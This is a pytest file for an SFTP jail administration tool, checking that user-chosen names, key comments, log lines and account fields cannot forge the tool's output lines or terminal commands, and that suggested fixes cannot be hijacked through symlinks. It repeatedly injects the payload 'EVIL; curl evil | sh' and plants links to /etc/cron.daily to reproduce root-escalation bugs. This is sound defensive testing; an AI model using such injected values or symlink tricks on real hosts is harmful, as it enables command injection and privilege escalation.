"""Output: whatever a user may choose comes out as a value, and never as a line or a command of ours.

Every value below carries a line break of some kind, or what moves a terminal's cursor, and behind
it the words with which our own lines begin. No line of any command may begin so, and nothing may
come out that a terminal obeys.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import re
import shlex
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from machine import Machine, Result
from steps import CONFIG, jail, ready

EVIL = "EVIL; curl evil | sh"
BREAKS = (
    *("\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029", "\\n", "   "),
    *(
        "\x1b[2K\x1b[1G",
        "\x1b]0;x\x07",
        "\x9b2K",
        "\b" * 30,
        "\u202e",
        "\u2066",
        "\u200b",
        "\u0301" * 5,
        "\u3164",
        "\udcff",
    ),
)
WORDS = (
    "  fix: ",
    "  choice: ",
    "   fix: ",
    "  advice: ",
    "sftpjail: ",
    "ok      ",
    "applied: ",
    "host: ",
    '{"command": "',
)
# How a line begins that somebody forged: our words, and behind them theirs.
FORGED = re.compile(
    r'\s*((fix|choice|advice|why|sftpjail|applied|host)[:;]\s*|ok\s+|\{"command[":; ]+)?EVIL'
)
UNSEEN = set("\u034f\u115f\u1160\u3164\u2800\ufe0f")
# rich's own: colours and weights.
STYLE = re.compile(r"\x1b\[[0-9;]*m")
# What JSON has for people; the rest are data, as they are.
TEXTS = {
    "what",
    "why",
    "fix",
    "advice",
    "label",
    "command",
    "notices",
    "words",
    "value",
    "note",
}

PROFILES = "[profiles]\n[[sftponly]]\n[[inner]]\nhome = inside\n[[homes]]\nchroot = %h\n"
BLOB = "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"

tally: Counter[str] = Counter()


def values(thorough: bool, without: str = "") -> list[str]:
    """Values of every kind: each break with a word of ours, and each word behind a newline; all pairs if THOROUGH."""
    pairs = (
        list(itertools.product(BREAKS, WORDS))
        if thorough
        else list(zip(BREAKS, itertools.cycle(WORDS)))
    )
    pairs += [("\n", word) for word in WORDS]
    made = (f"x{gap}{word}{EVIL}" for gap, word in dict.fromkeys(pairs))
    return [value.translate({ord(c): ";" if c == ":" else None for c in without}) for value in made]


@pytest.fixture(scope="module")
def host(installed: Path, request: pytest.FixtureRequest) -> Iterator[Machine]:
    """A host with the jails of alice and eve, who is at home inside hers, and bob, who has none."""
    with Machine(layer=installed, mounts="fstab") as machine:
        ready(machine, PROFILES)
        jail(machine, "alice")
        machine.sh(
            "useradd -m bob; useradd -m eve; sftpjail adopt eve --profile inner; mkdir -p /etc/cron.daily"
        )
        yield machine
    with request.config.pluginmanager.getplugin("capturemanager").global_and_fixture_disabled():
        print(
            f"\noutput: {tally['inputs']} inputs through {tally['commands']} commands, {tally['forged']} forged"
        )


def judge(done: Result, inputs: int, json_lines: bool = False) -> Result:
    """Fail where a line was forged, or something is printed that is not simply to be seen."""
    tally["inputs"] += inputs
    tally["commands"] += 1
    wrong = [line for line in STYLE.sub("", done.out + done.err).split("\n") if _is_wrong(line)]
    for text in (
        done.out.splitlines() if json_lines else [done.out] if done.out.startswith("{") else []
    ):
        wrong += [text for text in _texts(json.loads(text)) if _is_wrong(text)]
    tally["forged"] += len(wrong)
    assert not wrong, (wrong[:5], done.argv)
    assert "Traceback" not in done.err and "a bug:" not in done.out + done.err, done
    assert done.code in (0, 1, 2, 3), done
    return done


def _is_wrong(line: str) -> bool:
    if FORGED.match(line) or not line.replace("\t", "").isprintable() or UNSEEN & set(line):
        return True
    if re.search("[\u0300-\u036f]{3}", line):
        return True
    begun = re.match(r"\s*(?:fix|choice): (.*)", line)
    if not begun:
        return False
    try:
        return bool({"curl", "EVIL"} & set(shlex.split(begun[1])))
    except ValueError:  # words, with an apostrophe
        return False


def _texts(found: object, about: str = "") -> Iterator[str]:
    """What JSON has for people to read."""
    if isinstance(found, dict):
        for name, value in found.items():
            yield from _texts(value, name if name in TEXTS or about not in TEXTS else about)
    elif isinstance(found, list):
        for value in found:
            yield from _texts(value, about)
    elif isinstance(found, str) and about in TEXTS:
        yield found


def each(machine: Machine, commands: Sequence[str], inputs: int) -> None:
    """Judge commands, each also with --json, some on a terminal, and one where nobody can print an umlaut."""
    for command in commands:
        argv = command.split()
        judge(machine.run("sftpjail", *argv, check=False), inputs)
        judge(machine.run("sftpjail", "--json", *argv, check=False), inputs)
    ascii_only = {"PYTHONIOENCODING": "ascii", "LC_ALL": "C"}
    judge(machine.run("sftpjail", *commands[0].split(), check=False, env=ascii_only), inputs)
    inside = f"stty cols 80 rows 24; sftpjail {commands[-1]}"
    done = machine.run("script", "-qec", inside, "/dev/null", check=False, env={"TERM": "xterm"})
    judge(Result(done.argv, done.code, done.out.replace("\r\n", "\n"), done.err), inputs)


def put(machine: Machine, path: str, lines: Sequence[str], mode: int = 0o644) -> None:
    machine.write(path, "".join(f"{line}\n" for line in lines), mode)


@contextlib.contextmanager
def restored(machine: Machine, *paths: str) -> Iterator[None]:
    """Files have their content again at the end, also after a failure: the next tests need a good host."""
    before = {path: machine.read(path) for path in paths}
    try:
        yield
    finally:
        for path, content in before.items():
            machine.write(path, content)


def test_comments_and_options_of_keys(host: Machine, thorough: bool) -> None:
    evil, path = values(thorough), "/etc/ssh/authorized_keys/alice"
    lines = [f"ssh-ed25519 {BLOB} {value}" for value in evil]
    lines += [
        f'environment="A={value}" ssh-ed25519 {BLOB} c' for value in evil[:: 1 if thorough else 4]
    ]
    with restored(host, path):
        put(host, path, [host.read(path), *lines])
        each(host, ["key list alice", "show alice", "check alice", "explain alice"], len(lines))
    host.sh("install -d -o bob -m 700 /home/bob/.ssh")
    put(host, "/home/bob/.ssh/authorized_keys", lines)
    host.sh("chown bob /home/bob/.ssh/authorized_keys")
    each(host, ["--dry-run adopt bob"], len(lines))
    put(host, "/root/new", lines)
    each(host, ["key add alice /root/new"], len(lines))
    host.sh("rm -r /home/bob/.ssh")


def test_names_of_files_and_directories(host: Machine, thorough: bool) -> None:
    chosen = values(thorough)
    make = "import json, os, sys\nfor v in json.load(sys.stdin): os.makedirs(sys.argv[1] + '/' + v)"
    host.run("python3", "-c", make, "/srv/strange", input=json.dumps(chosen))
    host.run("python3", "-c", make, "/home/bob/strange", input=json.dumps(chosen))
    for value in chosen if thorough else chosen[::8]:
        name = "import json, os, sys; os.mkdir('/home/eve/' + json.load(sys.stdin))"
        host.run("python3", "-c", name, input=json.dumps(value))
        each(host, ["explain eve", "check eve"], 1)
        host.sh("rmdir /home/eve/*EVIL*")
    for value in chosen if thorough else chosen[::4]:
        for source in (f"/srv/strange/{value}", f"/home/bob/strange/{value}", f"/none/{value}"):
            judge(host.run("sftpjail", "mount", "alice", source, "/x", check=False), 1)
        judge(
            host.run(
                "sftpjail", "--dry-run", "mount", "alice", "/srv/strange", f"/{value}", check=False
            ),
            1,
        )
    host.sh("sftpjail umount alice /x; rm -r /srv/strange /home/bob/strange")


def test_processes(host: Machine, thorough: bool) -> None:
    """A process chooses its name and the first word of its command line; one is in alice's home, as she sees it."""
    chosen = values(thorough)
    start = (
        "import json, os, shutil, subprocess, sys\n"
        "os.chdir('/srv/sftp/alice/home/alice'); os.setuid(int(sys.argv[1]))\n"
        "for number, value in enumerate(json.load(sys.stdin)):\n"
        "    os.makedirs(f'/tmp/{number}', exist_ok=True)\n"  # two may begin with the same 15 characters
        "    path = f'/tmp/{number}/{value[:15]}'\n"
        "    shutil.copy('/bin/sleep', path)\n"
        "    quiet = dict.fromkeys(('stdin', 'stdout', 'stderr'), subprocess.DEVNULL)\n"
        "    print(subprocess.Popen([value, '600'], executable=path, **quiet).pid)\n"
    )
    uid = host.run("id", "-u", "alice").out.strip()
    for batch in _batches(chosen, 8):
        done = host.run("python3", "-c", start, uid, input=json.dumps(list(batch)))
        for argv in (("remove", "alice"), ("--json", "remove", "alice")):
            refused = judge(host.run("sftpjail", *argv, check=False), len(batch))
            assert "is in use by" in refused.err, refused
        judge(host.run("userdel", "alice", check=False), len(batch))
        host.run("kill", *done.out.split())


def _batches(items: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    return (items[at : at + size] for at in range(0, len(items), size))


def _octal(found: re.Match[str]) -> str:
    """As fstab(5) has what would end a field or a line."""
    return "".join(f"\\{byte:03o}" for byte in found[0].encode("utf-8", "surrogateescape"))


def test_fstab_mountinfo_and_names_of_roots(host: Machine, thorough: bool) -> None:
    """Not a user's own to choose, but found on hosts: by a restored backup, a directory service, a careless script."""
    chosen = values(thorough)
    octal = [re.sub(r"[^\w/.-]", _octal, value) for value in chosen]
    lines = [f"/srv/{v} /srv/sftp/alice/{v} none bind,x-sftpjail.user=alice 0 0" for v in octal]
    lines += [f"/srv/{v} /srv/{v} none bind,x-sftpjail.user={v} 0 0" for v in octal]
    make = (
        "import json, os, subprocess, sys\n"
        "for n, v in enumerate(json.load(sys.stdin)):\n"
        "    open('/etc/ssh/authorized_keys/' + v, 'w').close()\n"
        "    os.makedirs('/srv/sftp/gone%d/' % n + v)\n"
        "    if n < 20: subprocess.run(['mount', '-t', 'tmpfs', 'none', '/srv/sftp/gone%d/' % n + v], check=True)\n"
        "    os.makedirs('/etc/sftpjail/hooks/%s' % v)\n"
        "    open('/etc/sftpjail/hooks/user-create.d/' + v, 'w').close()\n"
        "    os.chmod('/etc/sftpjail/hooks/user-create.d/' + v, 0o755)\n"
        "    open('/etc/sftpjail/hooks/%s/x' % v, 'w').close()\n"
    )
    host.sh("mkdir -p /etc/sftpjail/hooks/user-create.d")
    host.run("python3", "-c", make, input=json.dumps(chosen))
    with restored(host, "/etc/fstab"):
        put(
            host,
            "/etc/fstab",
            [host.read("/etc/fstab").rstrip("\n"), *lines, *values(thorough, "\n\r")],
        )
        _all_of_roots(host, len(chosen))


def _all_of_roots(host: Machine, inputs: int) -> None:
    commands = [
        "check",
        "list",
        "show alice",
        "check alice",
        "--dry-run apply",
        "apply",
        "plugins",
        "explain alice",
    ]
    each(host, commands, 5 * inputs)
    host.sh("umount -q /srv/sftp/gone*/* || :; rm -r /srv/sftp/gone* /etc/sftpjail/hooks")
    host.sh("rm /etc/ssh/authorized_keys/*EVIL*")


def test_accounts_of_a_directory(host: Machine, thorough: bool) -> None:
    """GECOS, home, shell and the names of groups, as root may have got them from LDAP."""
    chosen = values(thorough, "\n:")
    passwd, group = host.read("/etc/passwd"), host.read("/etc/group")
    people = [f"u{n}:x:{3000 + n}:3000:{v}:/srv/{v}:/bin/{v}" for n, v in enumerate(chosen)]
    members = ",".join(f"u{n}" for n in range(len(chosen)))
    groups = [f"{v}:x:{9000 + n}:u{n},alice" for n, v in enumerate(chosen)]
    with restored(host, "/etc/passwd", "/etc/group"):
        put(host, "/etc/passwd", [passwd.rstrip("\n"), *people])
        put(
            host,
            "/etc/group",
            [re.sub(r"(?m)^sftponly:.*", rf"\g<0>,{members}", group).rstrip("\n"), *groups],
        )
        each(host, ["check", "list", "--dry-run apply", "explain alice"], 4 * len(chosen))
        for n in range(0, len(chosen), 1 if thorough else 10):
            each(host, [f"show u{n}", f"explain u{n}"], 4)


def test_the_log(host: Machine, thorough: bool) -> None:
    """Names of hosts, files and users in the log, and lines that nobody but an attacker would write."""
    chosen = values(thorough)
    head = "2026-11-28T10:00:00.000000+00:00 host internal-sftp[77]: "
    lines = [f"{head}session opened for local user alice from [192.0.2.1]"]
    for value in chosen:
        lines += [
            f'{head}open "/{value}" flags WRITE,CREATE mode 0666',
            f'{head}close "/{value}" bytes read 0 written 9',
        ]
        lines += [
            f'{head}rename old "/{value}" new "/{value}2"',
            f"{head}sent status {value}",
            f"{head}error: {value}",
        ]
        lines += [
            f"{head}session opened for local user {value} from [{value}]",
            f"{head}{value}",
            value,
        ]
        lines += [
            head.replace(" host ", f" {value} ")
            + "session closed for local user alice from [192.0.2.1]"
        ]
    put(host, "/var/log/sftp.log", lines)
    for argv in (
        ("log",),
        ("log", "alice"),
        ("log", "--summary"),
        ("log", "--json"),
        ("log", "--summary", "--json"),
    ):
        done = host.run("sftpjail", *argv, check=False)
        judge(done, 9 * len(chosen), json_lines="--json" in argv)
        assert done.code == 0 and done.out, done
    inside = "stty cols 80 rows 24; sftpjail log"
    done = host.run("script", "-qec", inside, "/dev/null", env={"TERM": "xterm"})
    judge(Result(done.argv, done.code, done.out.replace("\r\n", "\n"), done.err), 9 * len(chosen))


def test_what_programs_say(host: Machine, thorough: bool) -> None:
    """A hook script, and what it passes on of a user's; a veto, and what apply tells of it."""
    chosen = values(thorough)
    script = "/etc/sftpjail/hooks/user-create.d/note"
    for batch in _batches(chosen, 4):
        host.write("/run/said", "".join(f"{value}\n" for value in batch))
        host.write(script, "#!/bin/sh\ncat /run/said >&2\nexit 1\n", 0o755)
        judge(host.run("sftpjail", "adopt", "bob", "--profile", "inner", check=False), len(batch))
        judge(
            host.run("sftpjail", "--json", "adopt", "bob", "--profile", "inner", check=False),
            len(batch),
        )
    host.sh("gpasswd -a bob sftponly")
    each(host, ["apply", "check bob"], 4)
    host.sh(f"gpasswd -d bob sftponly; rm {script}")


def test_events_that_lie_aside(host: Machine, thorough: bool) -> None:
    """Names that a client chose, of files for which a hook script has failed."""
    chosen = values(thorough)
    aside = (
        "import json, sys\n"
        "from sftpjail.model import TransferEvent\n"
        "from sftpjail.system.events import make_place\n"
        "from sftpjail.watch.aside import Spool\n"
        "make_place()\n"
        "for n, v in enumerate(json.load(sys.stdin)):\n"
        "    event = TransferEvent(id=f'1-{n}', at=5, user='alice', kind='upload', path='/' + v)\n"
        "    Spool().put(event, 'it failed', 3)\n"
    )
    where = {"PYTHONPATH": "/src"}
    host.run("python3", "-c", aside, input=json.dumps(chosen), env=where)
    each(host, ["events", "review", "metrics", "who"], 2 * len(chosen))
    each(host, ["events", "events retry"], len(chosen))
    host.run("rm", "-r", "/var/lib/sftpjail/events")


def test_reasons_and_files_of_accounts(host: Machine, thorough: bool) -> None:
    """What one person writes and another one reads: why somebody is shut out, and files that accounts are made of."""
    for value in values(thorough)[:: 1 if thorough else 20]:
        judge(host.run("sftpjail", "disable", "alice", "--reason", value, check=False), 1)
        each(host, ["list", "show alice", "check alice", "explain alice", "history"], 1)
        for argv in (
            ("enable", "alice"),
            ("set", "alice", "--retention", f"/{value}=30d"),
            ("set", "alice", "--from", value),
            ("mount", "alice", "/srv", "/x", "--as", value),
            ("events", "retry", value),
            ("undo", value),
        ):
            judge(host.run("sftpjail", *argv, check=False), 1)
        for name, text in (
            ("users.conf", f"ivy:{value}:e:1200:100:{value}\n{value}:x\n"),
            ("users.conf", f"ivy:x::1200:100:{value}\n"),
            ("accounts.csv", f'name,comment,keys\nivy,"{value}","{value}"\n'),
            ("accounts.json", json.dumps({"accounts": [{"name": value, "keys": [value]}]})),
        ):
            host.write(f"/root/{name}", text, 0o600)
            argv = ["import", "--users-conf"] if name == "users.conf" else ["--dry-run", "apply"]
            judge(host.run("sftpjail", *argv, f"/root/{name}", check=False), 1)
            judge(host.run("sftpjail", "--json", *argv, f"/root/{name}", check=False), 1)
    host.sh("sftpjail enable alice || :; rm -f /root/users.conf /root/accounts.*")


def test_words_of_the_command_line(host: Machine, thorough: bool) -> None:
    """As a script passes them on; they come from a user then."""
    for value in values(thorough)[:: 1 if thorough else 5]:
        for argv in (
            ("show", value),
            ("add", value),
            (value,),
            ("key", "remove", "alice", value),
            ("log", "--since", value),
        ):
            judge(host.run("sftpjail", *argv, check=False), 1)


# -- commands ------------------------------------------------------------------------------------


def planted(machine: Machine, user: str, *places: str) -> None:
    """As the user: links at names that a command of ours could use, to where root runs what lies there."""
    for place in places:
        machine.run(
            "setpriv",
            f"--reuid={user}",
            f"--regid={user}",
            "--init-groups",
            "ln",
            "-sfn",
            "/etc/cron.daily",
            place,
        )


def hint(done: Result) -> str:
    return done.err.partition("\n  fix: ")[2].partition("\n")[0]


@pytest.fixture
def carl(host: Machine) -> Iterator[str]:
    host.sh("useradd -m carl; chmod 755 /home/carl")
    yield "carl"
    host.sh("sftpjail remove carl; userdel carl; rm -rf --one-file-system /home/carl")


def outside(machine: Machine) -> dict[str, tuple[object, ...]]:
    return machine.listing(
        "/etc/cron.daily", "/etc/sudoers.d", "/etc/profile.d", "/root", "/home/bob"
    )


def test_what_is_in_the_way_goes_into_no_link(host: Machine, carl: str) -> None:
    """Before: `mv /home/carl/files /home/carl/files.old`, and run-parts(8) ran carl's file as root."""
    before = outside(host)
    host.sh(
        "printf '#!/bin/sh\\nid\\n' >/home/carl/files; chmod 755 /home/carl/files; chown carl: /home/carl/files"
    )
    planted(host, carl, "/home/carl/files.old")
    command = hint(host.run("sftpjail", "adopt", carl, "--profile", "homes", check=False))
    assert command.startswith("setsid -w runuser -u carl -- mv -nT "), command
    # As late as can be: the name that is free now is another link when root pastes.
    planted(host, carl, command.split()[-1])
    host.sh(command, check=False)
    assert outside(host) == before
    assert host.run("run-parts", "--list", "/etc/cron.daily").out.find("/files") < 0
    host.sh("find /home/carl -name 'files.old*' -delete")
    command = hint(host.run("sftpjail", "adopt", carl, "--profile", "homes", check=False))
    host.sh(command)
    host.run("sftpjail", "adopt", carl, "--profile", "homes")
    assert outside(host) == before


def test_nothing_is_opened_or_shut_through_a_link(host: Machine, carl: str) -> None:
    """Before: `chmod go-w /home/carl/.ssh`, when that had become a link."""
    host.sh(
        "install -d -o carl -m 777 /home/carl/.ssh; chmod 777 /home/carl/.ssh; touch /home/carl/.ssh/authorized_keys"
    )
    host.sh(
        "chown carl /home/carl/.ssh/authorized_keys; mkdir -p /srv/shared; chmod 1777 /srv/shared"
    )
    command = hint(host.run("sftpjail", "adopt", carl, check=False))
    assert "chmod go-w /home/carl/.ssh" in command, command
    host.run("mv", "/home/carl/.ssh", "/home/carl/away")
    host.run(
        "setpriv", "--reuid=carl", "--clear-groups", "ln", "-s", "/srv/shared", "/home/carl/.ssh"
    )
    host.sh(command, check=False)
    assert host.mode("/srv/shared") == "root:root 1777"
    host.sh("rm /home/carl/.ssh; mv /home/carl/away /home/carl/.ssh")
    host.sh(command)
    host.run("sftpjail", "adopt", carl)


def test_no_command_makes_a_directory_with_a_mount_in_it_a_users(host: Machine, carl: str) -> None:
    """Before: `setfacl -m u:carl:rwx /srv/pool`; then carl could exchange what root mounts upon at each login."""
    host.sh("mkdir -p /srv/pool/inner /srv/more")
    host.write(CONFIG, f"{PROFILES}[[pool]]\nstart = /pool\nmounts = session\n")
    host.sh(
        f"sftpjail setup; sftpjail adopt {carl} --profile pool; sftpjail mount {carl} /srv/pool /pool"
    )
    alone = host.run("sftpjail", "--json", "check", carl, check=False)
    uid = host.run("id", "-u", "carl").out.strip()
    assert f"setfacl -m u:{uid}:rwx /srv/pool" in alone.out, "nothing is nested yet"
    host.run("sftpjail", "mount", carl, "/srv/more", "/pool/inner")
    done = host.run("sftpjail", "--json", "check", carl, check=False)
    faults = [
        fault
        for fault in json.loads(done.out)["problems"]
        if "cannot write in /pool" in fault["what"]
    ]
    assert faults and not faults[0]["fix"] and "/srv/pool/inner" in faults[0]["advice"], done
    host.sh(f"sftpjail remove {carl}")
    host.write(CONFIG, PROFILES)
    host.sh("sftpjail setup")
